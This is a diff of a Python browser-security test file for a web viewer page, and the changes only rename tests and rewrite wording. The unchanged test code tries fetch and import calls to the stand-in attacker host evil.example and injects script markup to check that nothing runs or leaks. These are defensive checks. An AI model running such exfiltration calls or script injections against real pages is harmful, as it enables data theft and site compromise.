@@ -1,4 +1,4 @@
-"""What the page asks for in a real browser, and what it does with markup that somebody typed."""
+"""What the page requests in a real browser, and what it does with markup in prompts."""
 
 from urllib.parse import urlsplit
 
@@ -22,7 +22,7 @@ TYPED = [text for text in NASTY if ("<" in text or "hacked" in text or "{{" in t
 
 
 @pytest.mark.parametrize("query", ["", "?player=hls", "?view=api", "?view=settings"])
-def test_nothing_is_asked_of_another_host_and_nothing_that_is_needed_is_shut(visit, query) -> None:
+def test_nothing_is_requested_from_other_hosts_and_nothing_needed_is_blocked(visit, query) -> None:
     viewer = visit(query)
     if "view" not in query:
         viewer.start(MEADOW)
@@ -37,7 +37,7 @@ def test_nothing_is_asked_of_another_host_and_nothing_that_is_needed_is_shut(vis
     assert [one for one in viewer.broken if one[0] >= 400] == []
 
 
-def test_what_runs_in_the_page_cannot_tell_another_host(visit) -> None:
+def test_scripts_in_the_page_cannot_send_to_other_hosts(visit) -> None:
     viewer = visit()
     sent = """async () => {
       const tries = [fetch('https://evil.example/'), import('https://evil.example/a.js')];
@@ -60,13 +60,13 @@ def test_markup_is_shown_and_never_run(visit) -> None:
         viewer.wait(f"data.prompt === '{number}'")
         for part in ("#player .caption", "#timeline", "#status"):
             assert viewer.page.locator(f"{part} :is(img, script, a)").count() == 0
-        assert "has not learnt" in viewer.text("#status")
+        assert "does not know" in viewer.text("#status")
     assert viewer.text("#player .caption").startswith("unicorn")
     assert viewer.page.evaluate("window.hacked") is None and viewer.errors == []
 
 
 def test_markup_in_a_refusal_is_not_run(visit) -> None:
-    """A seed of markup comes back in the words that refuse it."""
+    """A seed of markup comes back in the error message."""
     viewer = visit()
     viewer.page.evaluate(SEED_OF_MARKUP, MARKUP + SCRIPT)
     viewer.write(MEADOW)
@@ -75,7 +75,7 @@ def test_markup_in_a_refusal_is_not_run(visit) -> None:
     assert viewer.page.evaluate("window.hacked") is None
 
 
-def test_the_page_may_stand_in_a_frame_of_the_hub_and_of_nobody_else(visit, served) -> None:
+def test_only_the_hub_may_embed_the_page_in_a_frame(visit, served) -> None:
     viewer = visit()
     policy = viewer.page.request.get(served.url).headers["content-security-policy"]
     frames = next(part for part in policy.split("; ") if part.startswith("frame-ancestors")).split()[1:]
